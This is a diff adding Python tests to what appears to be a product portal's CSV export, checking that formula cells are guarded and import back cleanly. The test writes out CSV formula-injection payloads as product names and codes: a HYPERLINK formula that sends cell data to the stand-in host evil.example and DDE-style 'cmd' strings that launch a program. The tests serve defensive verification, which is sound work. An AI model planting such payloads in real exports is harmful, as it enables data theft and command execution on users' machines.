@@ -148,3 +148,44 @@ def test_written_rows_parse_back_to_the_same_values(rows):
     ]
     expected = [e for e in expected if any(v for v in (e[0], *e[1].values()))]
     assert [(r.product_id, r.values) for r in parsed.rows] == expected
+
+
+def test_the_export_guards_formula_cells_and_the_import_reads_them_back(db, connect):
+    """Exact repro: product names and codes sent through the API as formulas were written raw."""
+    import csv
+
+    mapper = connect("exact-online")
+    mapper.save_defaults(**GOOD_DEFAULTS["exact-online"])
+    (first, first_ext), (second, _second_ext) = _org_products(db, mapper.id)[:2]
+    product = db.session.get(Product, first)
+    product.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    product.code = "+cmd|' /C calc'!A0"
+    db.session.get(Product, second).name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    db.session.commit()
+    mapper.save_override(first, tax_code="1")
+
+    exported = mapper.flow.client.get(f"{mapper.base}/export.csv")
+    assert exported.headers["Cache-Control"] == "no-store"
+    rows = list(csv.DictReader(io.StringIO(exported.get_data(as_text=True))))
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "|", "%", "\t", "\r")), row
+    mine = next(r for r in rows if r["product_id"] == first_ext)
+    assert mine["product_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert mine["product_code"] == "'+cmd|' /C calc'!A0"
+    # The guarded file imports back to the same overrides (the guard is not part of any value).
+    assert _upload(mapper, exported.get_data()).status_code == 302
+    assert _overrides(db, mapper.id) == {(first, "tax_code"): "1"}
+
+
+def test_every_csv_writer_is_the_one_module():
+    """One CSV module: no other module writes CSV."""
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[3] / "portal"
+    writers = [
+        str(path.relative_to(root))
+        for path in root.rglob("*.py")
+        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
+    ]
+    assert writers == ["csvfiles.py"]
